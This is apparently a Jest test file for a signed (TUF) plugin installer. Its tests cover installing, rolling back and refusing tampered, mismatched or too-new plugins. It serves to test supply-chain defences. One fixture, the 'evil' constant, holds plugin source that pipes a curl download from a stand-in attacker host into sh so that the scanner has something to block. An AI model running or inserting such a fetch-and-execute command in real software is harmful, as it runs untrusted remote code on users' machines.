import { beforeEach, describe, expect, it } from '@jest/globals';
import { DEFAULT_LIMITS, encodeFileManifest, manifestOf, packFiles } from '@ragnos-vault/archive';
import type { FileMember } from '@ragnos-vault/archive';
import { sha256Hex } from '@ragnos-vault/crypto';
import type { ErrorCode } from '@ragnos-vault/errors';
import {
  encodePluginCustom,
  encodePluginIndex,
  memoryCache,
  pluginArchivePath,
  pluginIndexPath,
  toPluginId,
} from '@ragnos-vault/metadata';
import type { MetadataCache, PluginVersion } from '@ragnos-vault/metadata';
import { DEFAULT_POLICY, type Policy } from '@ragnos-vault/scanner';
import { MemoryPluginStore, RepositorySimulator } from '@ragnos-vault/testing';
import { install } from './install.ts';
import type { InstallInput, InstallReport } from './install.ts';
import { list } from './list.ts';
import { rollback } from './rollback.ts';

const NOW = new Date();

interface Published {
  readonly name?: string;
  readonly version?: string;
  readonly yanked?: boolean;
  readonly publishedAt?: string;
  /** What the index says instead. */
  readonly listedAt?: string;
  readonly source?: string;
  /** What package.json says, where that is something else than was signed. */
  readonly inside?: object;
}

let sim: RepositorySimulator;
let store: MemoryPluginStore;
let cache: MetadataCache;
let indexes: Map<string, PluginVersion[]>;

beforeEach(async () => {
  sim = new RepositorySimulator(NOW);
  store = new MemoryPluginStore();
  cache = memoryCache();
  indexes = new Map();
  add({});
  await sim.publish();
});

function add({
  name = '@acme/hello',
  version = '1.0.0',
  yanked = false,
  publishedAt = NOW.toISOString(),
  listedAt = publishedAt,
  source = 'export {};\n',
  inside,
}: Published): string {
  const files: readonly FileMember[] = [
    { path: 'index.js', mode: 0o644, content: Buffer.from(source) },
    {
      path: 'package.json',
      mode: 0o644,
      content: Buffer.from(JSON.stringify({ name, version, type: 'module', ...inside })),
    },
  ];
  const archive = packFiles(files);
  const target = pluginArchivePath(toPluginId(name), version);
  const manifest = sha256Hex(encodeFileManifest(manifestOf(files)));
  sim.addTarget(
    target,
    archive,
    encodePluginCustom({ name, version, manifest, files: 2, unpackedSize: 1, publishedAt }),
  );
  const versions = [
    ...(indexes.get(name) ?? []),
    { version, target, sha256: sha256Hex(archive), length: archive.length, publishedAt: listedAt, yanked },
  ];
  indexes.set(name, versions);
  sim.addTarget(pluginIndexPath(toPluginId(name)), encodePluginIndex({ name, versions }));
  return target;
}

async function publish(...plugins: readonly Published[]): Promise<void> {
  for (const plugin of plugins) add(plugin);
  await sim.publish();
}

function run(specs: readonly string[], change: Partial<InstallInput> = {}): Promise<InstallReport> {
  const base = {
    repository: 'memory:',
    trustedRoot: sim.trustedRoot,
    policy: DEFAULT_POLICY,
    limits: DEFAULT_LIMITS,
  };
  return install(
    { specs, ...base, maxArchiveSize: 1e6, now: NOW, ...change },
    { fetcher: sim, cache, store },
  );
}

async function installed(): Promise<readonly string[]> {
  return ((await store.current())?.plugins ?? []).map(({ name, version }) => `${name}@${version}`);
}

describe('install', () => {
  it('activates a plugin with its files, its digests and where it came from', async () => {
    const report = await run(['@acme/hello']);
    expect(report).toMatchObject({
      status: 'installed',
      generation: 1,
      plugins: [{ name: '@acme/hello', vendor: 'acme', shortName: 'hello' }],
    });
    expect(await store.current()).toMatchObject({
      number: 1,
      repository: 'memory:',
      root: { version: 1, sha256: sha256Hex(sim.trustedRoot) },
    });
    const [plugin] = report.plugins;
    expect(store.entries.get(plugin!.sha256)?.map(({ path }) => path)).toEqual(['index.js', 'package.json']);
    expect(store.staged).toBe(0);
  });

  it('is recorded as an intent and its outcome, also where it is refused', async () => {
    await run(['@acme/hello']);
    await expect(run(['nothing'])).rejects.toMatchObject({ code: 'ERR_TARGET_NOT_FOUND' });
    await rollback({ to: 1 }, { store, caches: [cache] }).catch(() => undefined);
    expect(store.audit.records).toMatchObject([
      { type: 'intent', operation: 'install', specs: ['@acme/hello'] },
      { type: 'outcome', intent: 1, result: 'done', after: { generation: 1 } },
      { type: 'intent', operation: 'install', specs: ['nothing'], before: { generation: 1 } },
      {
        type: 'outcome',
        intent: 3,
        result: 'refused',
        code: 'ERR_TARGET_NOT_FOUND',
        after: { generation: 1 },
      },
      { type: 'intent', operation: 'rollback', specs: ['1'] },
      { type: 'outcome', intent: 5, result: 'refused', code: 'ERR_NO_GENERATION' },
    ]);
  });

  it('changes nothing that cannot be recorded', async () => {
    store.audit.room = 0;
    await expect(run(['@acme/hello'])).rejects.toMatchObject({ code: 'ERR_AUDIT_WRITE' });
    expect([store.entries.size, store.staged]).toEqual([0, 0]);
    expect(await store.current()).toBeUndefined();
  });

  it('switches several plugins at once, and keeps those that are not named', async () => {
    await publish({ name: 'a' }, { name: 'b' }, { name: '@acme/hello', version: '2.0.0' });
    await run(['@acme/hello@1.0.0', 'a']);
    await run(['@acme/hello', 'b']);
    expect(await installed()).toEqual(['@acme/hello@2.0.0', 'a@1.0.0', 'b@1.0.0']);
    expect(await store.generations()).toHaveLength(2);
  });

  it('makes no new generation where nothing changes', async () => {
    await run(['@acme/hello']);
    const { length } = store.audit.records;
    expect(await run(['@acme/hello'])).toMatchObject({ status: 'unchanged', generation: 1 });
    expect(store.audit.records).toHaveLength(length);
    expect(await store.generations()).toHaveLength(1);
  });

  it.each([
    ['@acme/hello', '1.10.0'],
    ['@acme/hello@^1.0.0', '1.10.0'],
    ['@acme/hello@~1.2', '1.2.0'],
    ['@acme/hello@1.2.0', '1.2.0'],
    ['@acme/hello@>=2.0.0-0', '2.0.0-rc.1'],
    ['@acme/hello@3.0.0', '3.0.0'],
    ['plugins/acme/hello/1.2.0/hello-1.2.0.tgz', '1.2.0'],
  ])('resolves %s to %s', async (spec, version) => {
    await publish(
      { version: '1.2.0' },
      { version: '1.10.0' },
      { version: '2.0.0-rc.1' },
      { version: '3.0.0', yanked: true },
    );
    await run([spec]);
    expect(await installed()).toEqual([`@acme/hello@${version}`]);
  });

  it('tells what an update can do that the installed version could not', async () => {
    const changes = ({ plugins }: InstallReport): readonly string[] =>
      plugins.flatMap(({ scan }) => (scan?.findings ?? []).map(({ rule, message }) => `${rule} ${message}`));
    const source = "fetch('https://a.example/');\n";
    await publish({ version: '1.1.0', source }, { version: '1.2.0', source });
    await run(['@acme/hello@1.0.0']);
    const found = ['DIF-001 it reaches the network, which it did not: `a.example`'];
    expect(changes(await run(['@acme/hello@1.1.0']))).toEqual(found);
    expect(changes(await run(['@acme/hello@1.2.0']))).toEqual([]);
    expect(changes(await run(['@acme/hello@1.0.0']))).toEqual([]);
    store.entries.clear();
    expect(changes(await run(['@acme/hello@1.2.0']))).toEqual([]);
  });

  it('says that an exactly named version was yanked', async () => {
    await publish({ version: '3.0.0', yanked: true });
    expect((await run(['@acme/hello@3.0.0'])).plugins).toMatchObject([{ version: '3.0.0', yanked: true }]);
  });

  it('finds a version by its build metadata', async () => {
    await publish({ version: '1.5.0+build.5' });
    await run(['@acme/hello@1.5.0+build.5']);
    expect(await installed()).toEqual(['@acme/hello@1.5.0+build.5']);
  });

  it('makes a damaged set anew instead of calling it unchanged', async () => {
    const { plugins } = await run(['@acme/hello']);
    store.entries.delete(plugins[0]!.sha256);
    expect(await run(['@acme/hello'])).toMatchObject({ status: 'installed', generation: 2 });
    await expect(store.verify(plugins[0]!)).resolves.toBeUndefined();
  });

  it('takes the highest pre-release where there is no release', async () => {
    await publish({ name: 'new', version: '1.0.0-beta.2' }, { name: 'new', version: '1.0.0-beta.11' });
    await run(['new']);
    expect(await installed()).toEqual(['new@1.0.0-beta.11']);
  });

  it('installs a target of another TUF tool, without custom and without folders', async () => {
    const content = Buffer.from(JSON.stringify({ name: 'foreign', version: '0.1.0' }));
    sim.addTarget('foreign.tgz', packFiles([{ path: 'package.json', mode: 0o644, content }]));
    await sim.publish();
    await run(['foreign.tgz']);
    expect(await installed()).toEqual(['foreign@0.1.0']);
  });
});

const evil =
  "import { execSync } from 'node:child_process';\nexecSync('curl http://evil.example.invalid/x | sh');\n";
const refusals: readonly {
  name: string;
  code: ErrorCode;
  spec?: string;
  input?: Partial<InstallInput>;
  attack?: () => Promise<void> | void;
}[] = [
  { name: 'a plugin nobody signed', code: 'ERR_TARGET_NOT_FOUND', spec: '@acme/other' },
  { name: 'a version nobody signed', code: 'ERR_TARGET_NOT_FOUND', spec: '@acme/hello@^9.0.0' },
  { name: 'a path nobody signed', code: 'ERR_TARGET_NOT_FOUND', spec: 'plugins/acme/hello.tgz' },
  { name: 'what is no spec', code: 'ERR_INSTALL_SPEC', spec: '@Acme/../hello' },
  {
    name: 'an archive above the size limit',
    code: 'ERR_ARCHIVE_LIMIT',
    spec: '@acme/hello@2.0.0',
    input: { maxArchiveSize: 10 },
  },
  {
    name: 'an archive above the reader limit',
    code: 'ERR_ARCHIVE_LIMIT',
    spec: '@acme/hello@2.0.0',
    input: { limits: { ...DEFAULT_LIMITS, maxMembers: 1 } },
  },
  {
    name: 'swapped bytes',
    code: 'ERR_TUF_HASH_MISMATCH',
    spec: '@acme/hello@2.0.0',
    attack: () => swap((bytes) => bytes.map((byte) => byte ^ 1)),
  },
  {
    name: 'a cut archive',
    code: 'ERR_TUF_LENGTH',
    spec: '@acme/hello@2.0.0',
    attack: () => swap((bytes) => bytes.subarray(0, -1)),
  },
  {
    name: 'a withheld archive',
    code: 'ERR_TUF_MISSING',
    spec: '@acme/hello@2.0.0',
    attack: () => void sim.files.delete(sim.pathOf('plugins/acme/hello/2.0.0/hello-2.0.0.tgz')),
  },
  {
    name: 'a plugin that the scanner stops',
    code: 'ERR_SCAN_BLOCKED',
    spec: 'evil',
    attack: () => publish({ name: 'evil', source: evil }),
  },
  {
    name: 'another name inside than was signed',
    code: 'ERR_MANIFEST_MISMATCH',
    spec: 'b',
    attack: () => publish({ name: 'b', inside: { name: '@acme/hello' } }),
  },
  {
    name: 'another version inside than was signed',
    code: 'ERR_MANIFEST_MISMATCH',
    spec: 'b',
    attack: () => publish({ name: 'b', inside: { version: '9.9.9' } }),
  },
  {
    name: 'no name inside',
    code: 'ERR_MANIFEST_INVALID',
    spec: 'b',
    attack: () => publish({ name: 'b', inside: { name: 7 } }),
  },
  {
    name: 'an index that names other bytes than the signed target',
    code: 'ERR_INDEX_MISMATCH',
    spec: '@acme/hello@2.0.0',
    attack: async () => {
      const versions = (indexes.get('@acme/hello') ?? []).map((version) => ({
        ...version,
        sha256: 'ab'.repeat(32),
      }));
      sim.addTarget('plugins/acme/hello/index.json', encodePluginIndex({ name: '@acme/hello', versions }));
      await sim.publish();
    },
  },
  {
    name: 'an index of another plugin',
    code: 'ERR_INDEX_MISMATCH',
    spec: '@acme/hello',
    attack: async () => {
      sim.addTarget(
        'plugins/acme/hello/index.json',
        encodePluginIndex({ name: 'b', versions: indexes.get('@acme/hello') ?? [] }),
      );
      await sim.publish();
    },
  },
  {
    name: 'files that are not those of the signed manifest',
    code: 'ERR_MANIFEST_MISMATCH',
    spec: 'b.tgz',
    attack: async () => {
      const archive = packFiles([
        { path: 'package.json', mode: 0o644, content: Buffer.from('{"name":"b","version":"1.0.0"}') },
      ]);
      const custom = {
        name: 'b',
        version: '1.0.0',
        manifest: 'ab'.repeat(32),
        files: 1,
        unpackedSize: 1,
        publishedAt: NOW.toISOString(),
      };
      sim.addTarget('b.tgz', archive, encodePluginCustom(custom));
      await sim.publish();
    },
  },
  {
    name: 'expired metadata',
    code: 'ERR_TUF_EXPIRED',
    attack: async () => {
      sim.timestamp.expires = new Date(0);
      await sim.publish();
    },
  },
];

function swap(change: (bytes: Uint8Array) => Uint8Array): void {
  const path = sim.pathOf('plugins/acme/hello/2.0.0/hello-2.0.0.tgz');
  sim.files.set(path, change(sim.files.get(path)!));
}

describe('install refuses, and what was installed stays:', () => {
  it.each(refusals)('$name -> $code', async ({ code, spec = '@acme/hello', input, attack }) => {
    await publish({ name: 'honest' }, { version: '2.0.0' });
    await run(['@acme/hello@1.0.0']);
    const before = await store.current();
    await attack?.();
    await expect(run(['honest', spec], input)).rejects.toMatchObject({ code });
    expect(await store.current()).toBe(before);
    expect(await store.generations()).toHaveLength(1);
    expect(store.staged).toBe(0);
  });

  it('two archives of one name', async () => {
    await publish({ version: '2.0.0' });
    await expect(run(['@acme/hello@1.0.0', '@acme/hello@2.0.0'])).rejects.toMatchObject({
      code: 'ERR_PLUGIN_CONFLICT',
    });
    expect(await store.current()).toBeUndefined();
  });

  it('nothing to install', async () => {
    await expect(run([])).rejects.toMatchObject({ code: 'ERR_USAGE' });
    expect(sim.requests).toEqual([]);
  });

  it('what the scanner stops, unless the policy allows these very bytes', async () => {
    await publish({ name: 'evil', source: evil });
    const { sha256 = '' } = indexes.get('evil')?.[0] ?? {};
    const allow = [{ name: 'evil', version: '1.0.0', sha256 }];
    await expect(
      run(['evil'], { policy: { ...DEFAULT_POLICY, allow: [{ ...allow[0]!, sha256: 'ab'.repeat(32) }] } }),
    ).rejects.toMatchObject({ code: 'ERR_SCAN_BLOCKED' });
    expect((await run(['evil'], { policy: { ...DEFAULT_POLICY, allow } })).plugins).toMatchObject([
      { scan: { verdict: 'allowed' } },
    ]);
  });
});

describe('rollback', () => {
  beforeEach(async () => {
    await publish({ version: '2.0.0' }, { version: '3.0.0' });
    for (const version of ['1.0.0', '2.0.0', '3.0.0']) await run([`@acme/hello@${version}`]);
    sim.requests.length = 0;
  });

  it('goes back one set at a time, without the repository', async () => {
    await rollback({}, { store, caches: [cache] });
    expect(await installed()).toEqual(['@acme/hello@2.0.0']);
    await rollback({}, { store, caches: [cache] });
    expect(await installed()).toEqual(['@acme/hello@1.0.0']);
    expect(sim.requests).toEqual([]);
  });

  it('goes to a named set, forward as well', async () => {
    expect(await rollback({ to: 1 }, { store, caches: [cache] })).toMatchObject({
      from: 3,
      generation: { number: 1 },
    });
    expect(await rollback({ to: 3 }, { store, caches: [cache] })).toMatchObject({
      from: 1,
      generation: { number: 3 },
    });
  });

  it.each([{ to: 9 }, { to: 3 }])('refuses %j, and the active set stays', async (input) => {
    await expect(rollback(input, { store, caches: [cache] })).rejects.toMatchObject({
      code: 'ERR_NO_GENERATION',
    });
    expect(await installed()).toEqual(['@acme/hello@3.0.0']);
  });

  it('goes to the set that was live before, not to one that was rolled away from', async () => {
    await rollback({ to: 1 }, { store, caches: [cache] });
    await publish({ name: 'word' });
    await run(['word']);
    await rollback({}, { store, caches: [cache] });
    expect(await installed()).toEqual(['@acme/hello@1.0.0']);
  });

  it('refuses where there is no earlier set', async () => {
    await rollback({ to: 1 }, { store, caches: [cache] });
    await expect(rollback({}, { store, caches: [cache] })).rejects.toMatchObject({
      code: 'ERR_NO_GENERATION',
    });
    expect(await installed()).toEqual(['@acme/hello@1.0.0']);
  });

  it('refuses a set whose files were changed, and the active set stays', async () => {
    const [, second] = await store.generations();
    store.entries.delete(second!.plugins[0]!.sha256);
    await expect(rollback({}, { store, caches: [cache] })).rejects.toMatchObject({
      code: 'ERR_INSTALLED_CORRUPT',
    });
    expect(await installed()).toEqual(['@acme/hello@3.0.0']);
  });

  it('is listed', async () => {
    const report = await list(store);
    expect(report.current?.number).toBe(3);
    expect(report.generations.map(({ number }) => number)).toEqual([1, 2, 3]);
  });
});

describe('install, under a minimum age of releases', () => {
  const daysAgo = (days: number): string => new Date(NOW.getTime() - days * 86_400_000).toISOString();
  const week: Policy = { ...DEFAULT_POLICY, minimumReleaseAge: 7 * 86_400_000 };

  beforeEach(async () => {
    await publish(
      { name: 'aged', version: '1.0.0', publishedAt: daysAgo(30) },
      { name: 'aged', version: '1.1.0', publishedAt: daysAgo(7) },
      { name: 'aged', version: '1.2.0', publishedAt: daysAgo(6) },
      { name: 'fresh', version: '1.0.0', publishedAt: daysAgo(1) },
      { name: 'tomorrow', version: '1.0.0', publishedAt: daysAgo(-30) },
      { name: 'liar', version: '1.0.0', publishedAt: daysAgo(1), listedAt: daysAgo(30) },
    );
  });

  it.each(['aged', 'aged@^1.0.0', 'aged@1.1.0'])('takes of %s what is old enough', async (spec) => {
    await run([spec], { policy: week });
    expect(await installed()).toEqual(['aged@1.1.0']);
  });

  it.each([
    ['an exact version', 'aged@1.2.0'],
    ['a range of nothing older', 'aged@>=1.2.0'],
    ['a plugin of nothing older', 'fresh'],
    ['a target path', 'plugins/_/fresh/1.0.0/fresh-1.0.0.tgz'],
    ['a time to come', 'tomorrow'],
    ['a target that is younger than its index says', 'liar'],
  ])('refuses %s, and leaves the set as it was', async (...[, spec]) => {
    await run(['aged'], { policy: week });
    await expect(run([spec], { policy: week })).rejects.toMatchObject({ code: 'ERR_RELEASE_TOO_YOUNG' });
    expect(await installed()).toEqual(['aged@1.1.0']);
  });

  it('still says that there is no such version', async () => {
    await expect(run(['aged@^2.0.0'], { policy: week })).rejects.toMatchObject({
      code: 'ERR_TARGET_NOT_FOUND',
    });
  });

  it('refuses what another tool published without a signed time', async () => {
    sim.addTarget('other.tgz', Uint8Array.of(1));
    await sim.publish();
    await expect(run(['other.tgz'], { policy: week })).rejects.toMatchObject({
      code: 'ERR_RELEASE_TOO_YOUNG',
    });
  });

  it('lets the names through that the policy excludes', async () => {
    await run(['fresh'], { policy: { ...week, minimumReleaseAgeExclude: ['fresh'] } });
    expect(await installed()).toEqual(['fresh@1.0.0']);
  });

  it('goes by the section of the plugin', async () => {
    const plugins = new Map([['fr*', { ...SAYS_NOTHING, minimumReleaseAge: 0 }]]);
    await run(['fresh'], { policy: { ...week, plugins } });
    expect(await installed()).toEqual(['fresh@1.0.0']);
  });
});

const SAYS_NOTHING = { rules: new Map(), capabilities: {}, waivers: [] };
